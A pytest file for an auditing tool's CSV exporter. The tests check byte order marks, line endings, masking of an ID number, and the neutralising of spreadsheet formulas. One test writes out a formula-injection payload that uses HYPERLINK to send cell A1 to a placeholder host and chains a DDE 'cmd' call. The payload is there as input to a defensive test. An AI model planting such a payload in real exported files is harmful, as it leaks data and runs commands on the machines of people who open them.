"""findings.csv: opened by Excel as Chinese, read back by programs, and never run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from auditor.reports.csv_report import csv_chunks, harmless, write_csv
from auditor.reports.ledger import HEAD, ledger_rows
from auditor.reports.masked import masked
from tests.auditor.reports.invented import finding, full_report, report

ID = "11010519491231002X"


def rows(*findings: object) -> list[list[str]]:
    """The file read back."""
    text = b"".join(csv_chunks(report(*findings))).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_it_is_the_ledger_with_a_byte_order_mark(tmp_path: Path):
    """Every line and every cell, lines ending as spreadsheets end them; the same report gives the same bytes."""
    write_csv(full_report(), tmp_path / "findings.csv")
    data = (tmp_path / "findings.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == data.count(b"\n") == len(full_report().findings) + 1
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read == [list(HEAD), *map(list, ledger_rows(masked(full_report())))]
    assert data == b"".join(csv_chunks(full_report()))


def test_a_clean_report_has_its_head():
    """One line."""
    assert rows() == [list(HEAD)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "\u3000=", "\n="])
def test_what_a_spreadsheet_would_run_is_text(start: str):
    """In every cell that holds words of other people."""
    hostile = start + 'HYPERLINK("http://x/?"&A1,"点")|cmd\'!A1'
    one = finding(
        message=hostile, remedy=hostile, evidence=hostile, title=hostile, url=hostile, page_title=hostile,
        published=hostile, column_path=(hostile,), clauses=(hostile,),
    )  # fmt: skip
    _, cells = rows(one)
    assert sum("HYPERLINK" in cell for cell in cells) >= 8
    assert [cell for cell in cells if cell.strip(" \u3000").startswith(tuple("=+-@＝＋－＠"))] == []


def test_only_what_could_be_run_is_changed():
    """Plain words, numbers and addresses stay as they are."""
    for plain in ("", "1", "a=b", "https://a.example/?a=-1", "’=", "第 3 行"):
        assert harmless(plain) == plain


def test_a_private_number_that_came_this_far_is_masked():
    """In the evidence, the title and the address."""
    one = finding(evidence=f"证 {ID}", page_title=ID, url=f"https://a.example/{ID}", message=ID, column_path=(ID,))
    assert ID not in b"".join(csv_chunks(report(one))).decode()
